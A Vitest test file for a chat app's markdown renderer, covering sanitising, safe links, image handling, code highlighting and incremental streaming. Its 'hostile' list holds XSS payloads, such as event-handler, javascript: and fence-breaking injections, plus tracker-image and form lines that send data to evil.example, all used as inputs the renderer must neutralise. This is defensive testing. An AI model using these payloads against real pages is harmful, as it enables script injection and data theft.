import { describe, it, expect, vi } from 'vitest';
import { IncrementalMarkdown, renderMarkdown, splitBlocks } from './markdown';

/** Parses the HTML the way the page will and reports anything able to run script or load outside content. */
function dangers(html: string): string[] {
  const root = document.createElement('div');
  root.innerHTML = html;
  const found: string[] = [];
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'style', 'form', 'input', 'svg', 'math', 'link', 'meta', 'base', 'video', 'audio'].includes(tag)) found.push(`tag ${tag}`);
    for (const attr of Array.from(el.attributes)) {
      if (attr.name.startsWith('on')) found.push(`${tag} ${attr.name}`);
      if (attr.name === 'style') found.push(`${tag} style`);
      if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attr.name) && /^\s*(javascript|vbscript|data:text)/i.test(attr.value)) found.push(`${tag} ${attr.name}=${attr.value}`);
      if (attr.name === 'src' && /^https?:/i.test(attr.value)) found.push(`remote ${tag} src`);
    }
  }
  return found;
}

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![tracker](https://evil.example/steal?data=secret)',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="position:fixed;inset:0">overlay</div>',
  '<form action="https://evil.example"><input name=a></form>',
  '```js\n</code></pre><img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<<script>script>alert(1)<</script>/script>',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [y](javascript:alert(1)) |',
  '> <details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'www.example.com/<script>',
];

describe('renderMarkdown sanitising', () => {
  it('the danger check itself catches unsanitised markup', () => {
    expect(dangers('<img src=x onerror=alert(1)><a href="javascript:x">y</a><script></script>')).toHaveLength(3);
  });

  for (const payload of hostile) {
    it(`neutralises ${JSON.stringify(payload).slice(0, 60)}`, () => {
      const html = renderMarkdown(payload);
      expect(dangers(html)).toEqual([]);
    });
  }

  it('shows raw HTML from the model as text', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('<b>bold?</b> <script>alert(1)</script>');
    expect(root.textContent).toContain('<b>bold?</b>');
    expect(root.querySelector('b')).toBeNull();
  });

  it('keeps safe links and opens them in a new tab without an opener', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('See [docs](https://example.com/a?b=1) and https://example.org');
    const links = Array.from(root.querySelectorAll('a'));
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1', 'https://example.org']);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toContain('noopener');
    }
  });

  it('turns remote images into links and loads inline and parley-signed ones', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('![cat](https://cdn.example/cat.png) ![dot](data:image/png;base64,iVBORw0KGgo=) ![mine](/api/files/s/a.png?exp=1&sig=x)');
    const imgs = Array.from(root.querySelectorAll('img')).map((i) => i.getAttribute('src'));
    expect(imgs).toEqual(['data:image/png;base64,iVBORw0KGgo=', '/api/files/s/a.png?exp=1&sig=x']);
    expect(root.querySelector('a.image-link')?.getAttribute('href')).toBe('https://cdn.example/cat.png');
  });

  it('renders code blocks with highlighting, a language label and a copy button', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('```python\ndef f(x):\n    return "<b>"\n```');
    expect(root.querySelector('.code-lang')?.textContent).toBe('python');
    expect(root.querySelector('button.copy-code')).not.toBeNull();
    expect(root.querySelector('code .hljs-keyword')?.textContent).toBe('def');
    expect(root.querySelector('code')?.textContent).toBe('def f(x):\n    return "<b>"\n');
  });

  it('renders tables, lists and emphasis', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('# T\n\n- **a**\n- _b_\n\n| x | y |\n|---|---|\n| 1 | 2 |');
    expect(root.querySelector('h1')?.textContent).toBe('T');
    expect(root.querySelectorAll('li')).toHaveLength(2);
    expect(root.querySelector('strong')?.textContent).toBe('a');
    expect(root.querySelectorAll('td')).toHaveLength(2);
  });
});

describe('splitBlocks', () => {
  it('splits paragraphs but keeps fences, lists and indented continuations together', () => {
    const src = 'Intro\n\n```js\nconst a = 1;\n\nconst b = 2;\n```\n\n- one\n\n- two\n  more\n\n    indented\n\nEnd';
    expect(splitBlocks(src)).toEqual(['Intro', '```js\nconst a = 1;\n\nconst b = 2;\n```', '- one\n\n- two\n  more\n\n    indented', 'End']);
  });

  it('keeps an unclosed fence open until the end', () => {
    expect(splitBlocks('a\n\n~~~\nx\n\ny')).toEqual(['a', '~~~\nx\n\ny']);
  });
});

describe('IncrementalMarkdown', () => {
  it('renders the same HTML as a full render and only re-renders changed blocks', () => {
    const inc = new IncrementalMarkdown();
    const text = 'Hello **world**\n\n```ts\nlet x: number = 1;\n```\n\nA [link](https://a.example) and more text.';
    let blocks = inc.update('');
    let firstBlock: unknown = null;
    for (let i = 1; i <= text.length; i += 3) {
      blocks = inc.update(text.slice(0, i));
      if (i > 20 && firstBlock === null) firstBlock = blocks[0];
    }
    blocks = inc.update(text);
    expect(blocks[0]).toBe(firstBlock); // the first paragraph was rendered once and reused
    expect(blocks.map((b) => b.html).join('')).toBe(splitBlocks(text).map((b) => renderMarkdown(b)).join(''));
    const root = document.createElement('div');
    root.innerHTML = blocks.map((b) => b.html).join('');
    expect(root.querySelector('strong')?.textContent).toBe('world');
    expect(root.querySelector('.code-lang')?.textContent).toBe('ts');
  });
});

describe('IncrementalMarkdown.complete', () => {
  it('renders a finished text in one block, and keeps the blocks of a text that was streamed', () => {
    const once = new IncrementalMarkdown();
    const text = 'One\n\nTwo\n\n- a\n- b';
    const blocks = once.complete(text);
    expect(blocks).toHaveLength(1);
    expect(blocks[0].html).toBe(renderMarkdown(text));
    expect(once.complete(text)).toBe(blocks);
    const streamed = new IncrementalMarkdown();
    streamed.update('One\n\nTw');
    expect(streamed.complete(text).map((b) => b.src)).toEqual(['One', 'Two', '- a\n- b']);
  });
});

describe('streaming a large code block', () => {
  it('shows the growing block plain and highlights it once it is complete', () => {
    const code = Array.from({ length: 160 }, (_, i) => `def f${i}(x): return x + ${i}`).join('\n');
    const text = `Intro\n\n\`\`\`python\n${code}\n\`\`\`\n\nAfter`;
    const inc = new IncrementalMarkdown();
    const open = inc.update(text.slice(0, text.indexOf('\n```\n\nAfter')));
    const tail = document.createElement('div');
    tail.innerHTML = open.at(-1)!.html;
    expect(tail.querySelector('.hljs-keyword')).toBeNull();
    expect(tail.querySelector('code')?.textContent).toContain('def f159(x)');
    const done = inc.update(text);
    const block = document.createElement('div');
    block.innerHTML = done[1].html;
    expect(block.querySelector('.hljs-keyword')?.textContent).toBe('def');
    const finished = new IncrementalMarkdown();
    finished.update(text.slice(0, 5000));
    const all = document.createElement('div');
    all.innerHTML = finished.complete(text.slice(0, 5000)).map((b) => b.html).join('');
    expect(all.querySelector('.hljs-keyword')).not.toBeNull();
  }, 60_000); // DOMPurify over thousands of highlight spans is slow in jsdom (milliseconds in a browser)
});

describe('markdownWarm', () => {
  it('resolves once the warm-up steps have run, each in a task of its own, and at once afterwards', async () => {
    vi.resetModules();
    const fresh = await import('./markdown');
    let tasks = 0;
    let counting = true;
    const count = () => { if (counting) { tasks++; setTimeout(count, 0); } };
    setTimeout(count, 0);
    await fresh.markdownWarm();
    counting = false;
    // Ten steps, one a task: the counter's tasks ran in between (all in one task, it would not have run at all).
    expect(tasks).toBeGreaterThanOrEqual(8);
    const again = tasks;
    await fresh.markdownWarm();
    expect(tasks).toBe(again);
    expect(fresh.renderMarkdown('```js\nconst x = 1;\n```')).toContain('hljs-keyword');
  });
});
